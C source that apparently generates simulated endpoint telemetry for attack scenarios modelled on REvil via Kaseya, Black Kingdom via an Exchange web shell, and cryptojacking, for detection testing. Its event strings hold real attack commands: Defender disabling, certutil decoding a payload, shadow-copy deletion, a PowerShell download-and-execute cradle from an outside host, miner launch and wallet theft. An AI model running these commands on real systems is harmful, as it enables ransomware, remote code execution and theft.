/* Those who want money: REvil through the agent of Kaseya, Black Kingdom and miners on a server
 * with Exchange. */
#include "intruder.h"
#include "noise.h"
#include "office.h"
#include "pages.h"
#include "scenario.h"

#define SECOND USEC_PER_SEC
#define MINUTE (60 * SECOND)
#define AGENT  "C:\\Program Files (x86)\\Kaseya\\EXMPL1\\AgentMon.exe"
#define W3WP   "c:\\windows\\system32\\inetsrv\\w3wp.exe"

/* ---- an office to which nothing happens; its owner packs a file safely and updates Defender */

static void careful_owner(struct scene *s, usec hour)
{
    usec t = hour + 13 * MINUTE;
    if (civil_of_time(hour).hour != 11) {
        return;
    }
    office_runs(s, t, "C:\\Windows\\explorer.exe", "C:\\Program Files\\7-Zip\\7z.exe",
                "\"C:\\Program Files\\7-Zip\\7z.exe\" a -pOffer2021 D:\\Projects\\offer.7z "
                "D:\\Projects\\offer");
    office_runs(s, t + MINUTE, "C:\\Windows\\explorer.exe", POWERSHELL,
                "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $false");
    office_name(s, t, "C:\\Program Files\\Mozilla Firefox\\firefox.exe", "api.dropboxapi.com",
                "192.0.2.81");
}

const struct scenario scenario_office_healthy = {
    .name = "office-healthy",
    ON_OFFICE("FILES01"),
    .end = {.year = 2021, .month = 7, .day = 4},
    .also = careful_owner,
    .state = "none"
};

/* ---- REvil through Kaseya */

enum { DOCUMENTS = 240, FOLDERS = 12, ENGINE_PID = 9412 };

static void run_chain(struct scene *s, usec t)
{
    static const char chain[] =
        "\"C:\\WINDOWS\\system32\\cmd.exe\" /c ping 127.0.0.1 -n 4979 > nul & " POWERSHELL
        " Set-MpPreference -DisableRealtimeMonitoring $true -DisableIntrusionPreventionSystem "
        "$true "
        "-DisableIOAVProtection $true -DisableScriptScanning $true & copy /Y "
        "C:\\Windows\\System32\\certutil.exe C:\\Windows\\cert.exe & C:\\Windows\\cert.exe -decode "
        "c:\\kworking\\agent.crt c:\\kworking\\agent.exe & c:\\kworking\\agent.exe";
    office_runs(s, t, AGENT, CMD, chain);
    office_runs(s, t + 2 * SECOND, CMD, POWERSHELL,
                "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true "
                "-DisableIOAVProtection $true");
    event_file(s, t + 4 * SECOND, 9120, "C:\\Windows\\cert.exe", "C:\\kworking\\agent.exe");
}

static void side_load(struct scene *s, usec t)
{
    static const char agent[] = "C:\\kworking\\agent.exe";
    event_file(s, t, 9130, agent, "C:\\Windows\\MsMpEng.exe");
    event_file(s, t + SECOND, 9130, agent, "C:\\Windows\\mpsvc.dll");
    office_runs(s, t + 2 * SECOND, agent, "C:\\Windows\\MsMpEng.exe", "C:\\Windows\\MsMpEng.exe");
    office_runs(s, t + 3 * SECOND, "C:\\Windows\\MsMpEng.exe", "C:\\Windows\\System32\\netsh.exe",
                "netsh advfirewall firewall set rule group=\"Network Discovery\" new enable=Yes");
}

/* Each document is written again under another ending, and each folder gets a note. */
static void encrypt(struct scene *s, usec t, const char *image, const char *ending,
                    const char *note)
{
    for (unsigned i = 0; i < DOCUMENTS; i++) {
        const char *folder = arena_printf(s->arena, "D:\\Projects\\%02u\\", i % FOLDERS).p;
        const char *file = arena_printf(s->arena, "%splan-%03u.docx.%s", folder, i, ending).p;
        event_file(s, t + i * SECOND / 5, ENGINE_PID, image, file);
        if (i < FOLDERS) {
            event_file(s, t + i * SECOND / 5, ENGINE_PID, image,
                       arena_printf(s->arena, "%s%s", folder, note).p);
        }
    }
}

static void revil_encrypts(struct scene *s, usec t)
{
    encrypt(s, t, "C:\\Windows\\MsMpEng.exe", "k4b7x2m", "k4b7x2m-readme.txt");
}

static void remove_copies(struct scene *s, usec t)
{
    office_runs(s, t, "C:\\Windows\\MsMpEng.exe", POWERSHELL,
                "powershell.exe -e Get-WmiObject Win32_ShadowCopy | ForEach-Object {$_.Delete();}");
}

static const struct act kaseya_acts[] = {
    {0,      run_chain,      "execute"},
    {AT(20), side_load,      "execute"},
    {AT(40), remove_copies,  "impact" },
    {AT(60), revil_encrypts, "impact" },
};

const struct scenario scenario_kaseya = {
    .name = "kaseya",
    ON_OFFICE("FILES01"),
    .end = {.year = 2021, .month = 7, .day = 3},
    ACTS(kaseya_acts),
    .before_end = 7 * ACT_HOUR,
    .state = "compromised",
    .rung = 7
};

/* ---- Black Kingdom */

#define BK_PAGE "ChackLogsEN.aspx"

static const struct intruder extortioner = {"203.0.113.77", SCRIPT_225};

static void page_left(struct scene *s, usec t)
{
    event_file(s, t, worker_owa.pid, W3WP, OWA_AUTH BK_PAGE);
    truth_name(s->truth, TRUTH_SHELL, BK_PAGE);
}

static void page_called(struct scene *s, usec t)
{
    intruder_posts(s, t, &extortioner, LOG_PROXY_OWA, "/owa/auth/" BK_PAGE, 310);
    worker_runs(s, t + SECOND, &worker_owa,
                "cmd.exe /c C:\\Windows\\System32\\xfNsZaWcQpRtYkLm.exe",
                SYSTEM32 "xfNsZaWcQpRtYkLm.exe", "C:\\Windows\\System32\\xfNsZaWcQpRtYkLm.exe");
}

static void kingdom_encrypts(struct scene *s, usec t)
{
    encrypt(s, t, SYSTEM32 "xfNsZaWcQpRtYkLm.exe", "dfr8k3", "decrypt_file.TxT");
}

static const struct act extortion_acts[] = {
    {0,       page_left,        "write"  },
    {AT(60),  page_called,      "execute"},
    {AT(200), kingdom_encrypts, "impact" },
};

const struct scenario scenario_extortion = {
    .name = "extortion",
    ON_EXCHANGE,
    .end = {.year = 2021, .month = 3, .day = 20},
    .files = pages_shipped,
    .hour = noise_hour,
    ACTS(extortion_acts),
    .before_end = 8 * ACT_HOUR,
    .state = "compromised",
    .rung = 7
};

/* ---- miners */

static void fetch_script(struct scene *s, usec t)
{
    event_process(s, t,
                  &(struct process){.pid = 20120,
                                    .image = POWERSHELL,
                                    .command = "powershell.exe -nop IEX (New-Object "
                                               "Net.WebClient).DownloadString('http://"
                                               "p.estonine.com/p?e')",
                                    .parent_pid = worker_default.pid,
                                    .parent_image = W3WP,
                                    .parent_command = worker_default.command});
    event_dns(s, t + SECOND, 20120, POWERSHELL, "p.estonine.com", "::ffff:203.0.113.9;");
}

static void come_back(struct scene *s, usec t)
{
    event_task_made(s, t, "\\blackball", "powershell -c PS_CMD");
}

static void mine(struct scene *s, usec t)
{
    static const char miner[] = "C:\\Windows\\Temp\\m6.bin.exe";
    event_file(s, t, 20120, POWERSHELL, miner);
    office_runs(s, t + 2 * SECOND, POWERSHELL, miner,
                "C:\\Windows\\Temp\\m6.bin.exe -o stratum+tcp://pool.supportxmr.com:3333 "
                "--donate-level=1 --coin=monero");
    event_dns(s, t + 4 * SECOND, 20188, miner, "pool.supportxmr.com", "::ffff:203.0.113.10;");
}

static void take_wallet(struct scene *s, usec t)
{
    office_runs(s, t, POWERSHELL, CMD,
                "cmd.exe /c copy C:\\Users\\adm.keller\\AppData\\Roaming\\Bitcoin\\wallet.dat "
                "C:\\Windows\\Temp\\w");
}

static const struct act miner_acts[] = {
    {0,        fetch_script, "execute"},
    {AT(90),   come_back,    "persist"},
    {AT(300),  mine,         "impact" },
    {AT(4000), take_wallet,  "collect"},
};

const struct scenario scenario_cryptojacking = {
    .name = "cryptojacking",
    ON_EXCHANGE,
    .end = {.year = 2021, .month = 3, .day = 14},
    .files = pages_shipped,
    .hour = noise_hour,
    ACTS(miner_acts),
    .before_end = 30 * ACT_HOUR,
    .state = "compromised",
    .rung = 6
};
